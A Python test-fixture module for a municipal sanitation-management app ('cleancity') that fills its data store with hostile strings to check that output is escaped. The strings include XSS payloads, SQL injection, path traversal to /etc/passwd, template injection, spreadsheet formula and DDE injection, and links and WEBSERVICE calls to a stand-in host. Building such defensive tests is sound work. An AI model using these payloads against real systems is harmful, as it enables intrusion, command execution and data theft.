# ruff: noqa: E501  rows of data read better unbroken; a Chinese character counts as two
"""Strings that were meant to be names and are not, of our own making; and a store in which everything is called so.

Each harms by another way: HTML, Markdown, Streamlit's own marks, templates of charts and maps, formulas, SQL, paths,
signs that are not seen. What they would fetch is at an address that no test may ask for; what they would run sets
`window.naughty`.
"""

from datetime import date, datetime, timedelta

from cleancity import intake
from cleancity.accounts import Person, Role
from cleancity.desk import HOLDING, deciding
from cleancity.desk import meetings as meetings_of_the_desk
from cleancity.desk import papers as papers_of_the_desk
from cleancity.intake import Upload
from cleancity.meeting.decisions import Decision
from cleancity.meeting.meetings import AgendaItem
from cleancity.papers.producing import Wanted
from tests.making import csv_bytes

EVIL = "naughty.example"
RUN = "window.naughty=1"
HTML = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"</style><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<a href='javascript:{RUN}'>点</a>",
    f"<form action='//{EVIL}/f'><button>登录</button></form>", f"<link rel=stylesheet href=//{EVIL}/s.css>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/m'>", f"<style>@import '//{EVIL}/i';body{{display:none}}</style>",
    f"<object data=//{EVIL}/o></object>", "<!--", "]]>", "&lt;b&gt;粗&lt;/b&gt;", "&#x3C;script&#x3E;", "<b>粗</b>",
    f"\"><img src=//{EVIL}/p>", f"' onmouseover='{RUN}' x='", f"<details open ontoggle={RUN}>", "</textarea></div></main>",
)  # fmt: skip
MARKDOWN = (
    f"![图](http://{EVIL}/a.png)", f"![x](//{EVIL}/b.png)", f"[点这里](javascript:{RUN})", f"[链接](http://{EVIL}/c)",
    f"<http://{EVIL}/d>", f"http://{EVIL}/e", f"www.{EVIL}", f"WWW.{EVIL}/k", f"a@{EVIL}", f"[x][1] [1]: http://{EVIL}/g", "# 标题", "**粗**_斜_~~删~~",
    "`代码`", "```", "| a | b |", "> 引", "- 项", "1. 项", "---", "[^1]", "- [x] 做完", "\\",
)  # fmt: skip
STREAMLIT = (
    ":red[红]", ":material/delete:", ":blue-background[底]", "$\\frac{1}{0}$", "$$x^2$$", ":smile:", ":small[小]",
    ":badge[徽]", "{w}", "{n} 件", "%{y}<extra>x</extra>", "{{7*7}}", "{{ constructor }}", "${7*7}", "#{7*7}", "%(name)s",
    "%s%n%x", "{0.__class__}", "<extra></extra>", "<br>换行<br>", "<b style=color:red>红</b>",
)  # fmt: skip
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", f'=HYPERLINK("http://{EVIL}/h","点")',
            f'=WEBSERVICE("http://{EVIL}/w")', "=IMPORTXML(1)", "＝1+1", "'=1+1", "0x1F", "1e309", "DDE(\"x\";\"y\")")  # fmt: skip
SQL = ("'; DROP TABLE issue; --", "' OR '1'='1", '"; ATTACH \'x\' AS y; --', "$department", "%", "_", "NULL", "1;1")
PATHS = ("../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\CON", "con.txt", "a/b\\c:d*e?f", "file:///etc/passwd",
         f"\\\\{EVIL}\\share", ".", "..", "~root", "%2e%2e%2f")  # fmt: skip
UNSEEN = ("\u202e右到左txt.exe", "\u2066隔\u2069离", "零\u200b宽\u200d连\ufeff字", "\u00a0空", "a\u0301\u0302\u0303组合", "👨‍👩‍👧‍👦全家",
          "🏳️‍🌈旗", "𠮷田", "Ａ全角１", "ÅÅ同形", "长" * 300, "W" * 200, "换\r\n行", "制\t表")  # fmt: skip
BROKEN = ("零\x00字节", "响\x07铃", "退\x1b[31m色")  # no text at all: the file is refused in words
STRINGS = (*HTML, *MARKDOWN, *STREAMLIT, *FORMULAS, *SQL, *PATHS, *UNSEEN)

AS_OF = date(2026, 11, 15)
OFFICE = Person("boss", f"<img src=x onerror={RUN}>=1", Role.ADMIN, address="10.0.0.1")
ISSUE = ["问题编号", "行动编号", "来源", "检查日期", "大类", "小类", "描述", "场所", "区县", "街道", "地址", "经度", "纬度", "责任部门", "责任领导",
         "结案时间", "整改时限", "整改后照片", "状态", "回访备注"]  # fmt: skip


def issue_rows(strings=STRINGS):
    """Four issues called by each string, at one place each: closed, back and closed again, overdue, and due soon."""
    rows = [ISSUE]
    for number, word in enumerate(strings):
        lon, lat = 113.24 + 0.004 * (number % 20), 31.14 + 0.006 * (number // 20)
        for turn in range(4):
            found = AS_OF - timedelta(days=40 - 12 * turn)
            owner = word if turn < 2 else strings[number % 8 * 12 % len(strings)]  # few with work left: a paper for each
            closed = f"{found + timedelta(days=2)} 10:00" if turn < 2 else ""
            rows.append(
                [f"N{number:03}-{turn}", "XD", "技术评估反馈" if turn == 3 else "自查", str(found), word, word, word, word,
                 word, word, word, lon, lat, owner, word, closed, str(found + timedelta(days=12 if turn == 3 else 5)),
                 f"IMG_12345678{number:02}{word}.jpg", "已结案" if closed else "处置中", word]
            )  # fmt: skip
    return rows


def registers(strings=STRINGS):
    """The lists of the city, a row for each string: dataset, rows."""
    some = list(enumerate(strings[::3]))
    yield "department", [
        ["部门编码", "部门名称", "同类组", "责任领导", "职责"], *([f"D{no:03}", word, "管理处", word, word] for no, word in some),
    ]  # fmt: skip
    yield "area", [["区划编码", "名称", "级别"], *([f"99{no:04}", word, "区县"] for no, word in some)]
    yield "venue", [["场所编码", "名称", "类型", "区县"], *([f"V{no:03}", word, "农贸市场", word] for no, word in some)]
    yield "campaign", [["行动编号", "名称", "类型"], ["XD", f"{MARKDOWN[0]}{HTML[1]}", "巩卫"]]
    yield "phase", [["阶段编号", "行动编号", "名称", "序号", "计划开始", "计划结束"],
                    *([f"P{no}", "XD", word, no + 1, "2026-09-01", "2026-12-31"] for no, word in some[:4])]  # fmt: skip
    yield "clause", [["条款", "行动编号", "条款原文", "标题", "章节"], *([f"C{no}{word}", "XD", word, word, word] for no, word in some)]
    yield "task", [["任务编号", "阶段编号", "任务名称", "牵头单位", "计划开始", "计划完成", "进度", "条款"],
                   *([f"T{no:03}", f"P{no % 4}", word, word, "2026-09-01", "2026-11-01", 30, f"C{no}{word}"] for no, word in some)]  # fmt: skip
    yield "supply_item", [["物资编码", "名称", "单位", "储备定额", "类别"], *([f"S{no:03}", word, word, 100, "其他"] for no, word in some)]
    yield "warehouse", [["仓库编码", "名称", "经度", "纬度", "保管部门"],
                        *([f"W{no:03}", word, 113.3, 31.2, word] for no, word in some[:8])]  # fmt: skip
    yield "supply_stock", [["仓库", "盘存日期", "物资编码", "批次", "账面数量", "盘点数量", "有效期至"],
                           *([f"W{no % 8:03}", "2026-11-15", f"S{no:03}", word, 20, 19, "2026-12-01"] for no, word in some)]  # fmt: skip
    yield "inspection", [["检查编号", "检查类型", "日期", "场所", "责任部门", "满分", "得分"],
                         *([f"J{no}-{kind}", kind, "2026-10-20", word, word, 100, 80] for no, word in some for kind in ("自查", "暗访"))]  # fmt: skip
    yield "survey", [["调查编号", "日期", "调查内容", "责任部门", "有效样本", "满意人数"],
                     *([f"M{no}", "2026-11-01", "满意度", word, 200, 150] for no, word in some)]  # fmt: skip
    yield "reward", [["奖惩编号", "日期", "责任部门", "类型", "原因"],
                     *([f"R{no}", "2026-11-02", word, "通报表扬", word] for no, word in some)]  # fmt: skip


def fill(store):
    """Everything by the front door; what a list does not take is left out of it. Returns {dataset: receipt}."""
    receipts = {}
    for dataset, rows in registers():
        receipts[dataset] = intake.accept(store, Upload(csv_bytes(rows), f"{MARKDOWN[0]}<b>{dataset}.csv", dataset, as_of=AS_OF))
    issues = issue_rows()
    broken = [[f"B{no}", *each[1:]] for no, each in enumerate(issue_rows(BROKEN)[1::4])]
    data = csv_bytes([*issues, ["坏行", *ISSUE[1:]], ["", *issues[1][1:]]])
    receipts["issue"] = intake.accept(store, Upload(data, f"=1+1{HTML[0]}.csv", "issue", crs="wgs84", as_of=AS_OF, department=HTML[1]))
    for row in broken:
        receipts[f"broken {row[0]}"] = intake.accept(store, Upload(csv_bytes([ISSUE, row]), "坏.csv", "issue", as_of=AS_OF))
    return receipts


def hold(store):
    """A meeting with decisions called by the strings, a step of supervision, an unusual day, and every kind of paper.

    `HOLDING` holds the store.
    """
    held = meetings_of_the_desk.save(OFFICE, title=f"{HTML[1]}"[:40], held_on=AS_OF, agenda=_agenda())
    for word in STRINGS[:12]:
        if word.strip():
            deciding.decide(OFFICE, held.meeting_id, Decision(matter=f"{word} 定", unit=word[:20], leader=word[:10]))
    with store.cursor() as cursor, store.transaction(cursor):
        for number, word in enumerate(STRINGS[:20]):
            store.journal.write(
                cursor, "supervision", datetime(2026, 11, 10), department=word, issue_id="", step="提醒",
                issued_on="2026-11-10", until_on="2026-11-12", words=word, state="发出",
            )  # fmt: skip
            if number < 5:
                day = f"2026-11-{number + 1:02}"
                store.journal.write(cursor, "annotation", datetime(2026, 11, 10), from_on=day, to_on=day, category="天气",
                                    words=word, state="记下")  # fmt: skip
    return held


def papers():
    """Every kind of paper, made in the name of somebody called so: kind -> papers."""
    kinds = ("bulletin-weekly", "minutes", "supervision", "deck", "rectification", "disclosure")
    return {kind: papers_of_the_desk.make(OFFICE, Wanted(kind, AS_OF, "")) for kind in kinds}


def _agenda():
    return tuple(AgendaItem(kind) for kind in ("departments", "followup", "overall", "league", "obstacles", "issues", "decide"))


def held_store(folder, monkeypatch_env):
    """HOLDING's own store in `folder`, filled; to be let go by the caller."""
    monkeypatch_env("CLEANCITY_STORE", f"duckdb:///{folder.as_posix().lstrip('/')}/city.duckdb")
    HOLDING.let_go()
    store = HOLDING.store()
    return store, fill(store)
